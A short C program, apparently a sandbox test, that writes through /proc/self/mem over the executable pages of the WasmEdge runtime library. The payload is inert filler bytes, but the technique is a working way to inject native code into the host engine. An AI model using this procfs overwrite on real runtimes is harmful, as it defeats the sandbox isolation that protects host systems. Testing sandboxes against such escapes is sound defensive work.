/* Overwrites the code of the engine that runs it, by way of its own memory in procfs: then what
 * runs is native code of its own choice. Here each byte becomes an instruction that no processor
 * has. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv) {
    const char *path = argc > 1 ? argv[1] : "/proc/self/mem";
    static unsigned char code[65536];
    char line[1024];
    unsigned long long start, end;
    FILE *maps = fopen("/proc/self/maps", "r");
    int memory = open(path, O_WRONLY);
    if (!maps || memory < 0) {
        printf("%s: %s\n", maps ? path : "/proc/self/maps", strerror(errno));
        return 1;
    }
    memset(code, 0xff, sizeof(code));
    while (fgets(line, sizeof(line), maps)) {
        if (!strstr(line, "libwasmedge") || !strstr(line, " r-xp "))
            continue;
        if (sscanf(line, "%llx-%llx", &start, &end) != 2)
            return 2;
        for (; start < end; start += sizeof(code))
            if (pwrite(memory, code, sizeof(code), (off_t)start) < 0)
                return 3;
    }
    puts("overwritten");
    return 0;
}
